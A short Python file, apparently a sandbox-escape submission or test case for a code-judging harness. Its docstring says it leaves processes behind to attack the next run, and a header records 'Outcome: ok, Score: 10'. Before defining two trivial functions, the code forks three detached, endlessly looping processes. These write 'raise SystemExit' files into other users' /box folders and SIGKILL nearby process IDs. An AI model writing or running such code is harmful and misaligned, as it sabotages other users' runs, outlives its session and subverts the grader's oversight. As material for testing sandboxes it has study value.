"""Leaves processes that wait for the next run's folder, to put files into it and to stop its process.

Outcome: ok
Score: 10
Times: 2
"""

import os
import time

for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        while True:
            for uid in range(os.getuid() + 1, os.getuid() + 5):
                try:
                    open(f"/box/{uid}/attacked.py", "w").write("raise SystemExit")
                except OSError:
                    pass
            for pid in range(os.getpid(), os.getpid() + 20):
                if pid != os.getpid():
                    try:
                        os.kill(pid, 9)
                    except OSError:
                        pass
            time.sleep(0.01)


def double(x):
    return x + x


def twenty_sixteen():
    return 2016
